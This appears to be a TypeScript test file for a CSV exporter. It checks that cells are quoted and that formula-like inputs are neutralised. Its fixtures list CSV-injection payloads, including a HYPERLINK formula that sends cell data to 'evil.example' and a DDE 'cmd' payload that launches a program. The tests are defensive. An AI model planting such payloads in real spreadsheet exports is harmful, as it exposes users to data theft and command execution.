import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLines, plainCsvLines } from './csv.ts';

test('every cell is quoted, and quotes are doubled', () => {
  expect(csvLines([['a', 'b "c"', null, 4.5, -3]])).toBe('"a","b ""c""","","4.5","-3"\r\n');
});

test.each([
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '|calc',
  '%0A=1',
  '=HYPERLINK("https://evil.example?"&A1)',
  "=cmd|' /C calc'!A0",
])('%j is no formula to a spreadsheet', text => {
  const [, cell = ''] = /^"(.*)"\r\n$/s.exec(csvLines([[text]])) ?? [];
  expect(cell).toMatch(/^'/);
});

const text = fc.string({ unit: 'binary' });

test('whatever the texts, each row is one line with its cells, none of them a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text)), rows => {
      const text = csvLines(rows);
      const lines = text.split('\r\n').slice(0, -1);
      expect(lines).toHaveLength(rows.length);
      for (const line of lines) {
        const cells = [...line.matchAll(/"((?:[^"]|"")*)"(,|$)/g)].map(([, cell]) => cell ?? '');
        expect(cells).toHaveLength(2);
        for (const cell of cells) expect(cell.replaceAll('""', '"').trimStart()).not.toMatch(/^[=+\-@]/);
      }
    }),
  );
});

test('for a machine only what needs quotes has them', () => {
  expect(plainCsvLines([['Google Click ID', 'Sale, "big"', 480, null]])).toBe(
    'Google Click ID,"Sale, ""big""",480,\r\n',
  );
});
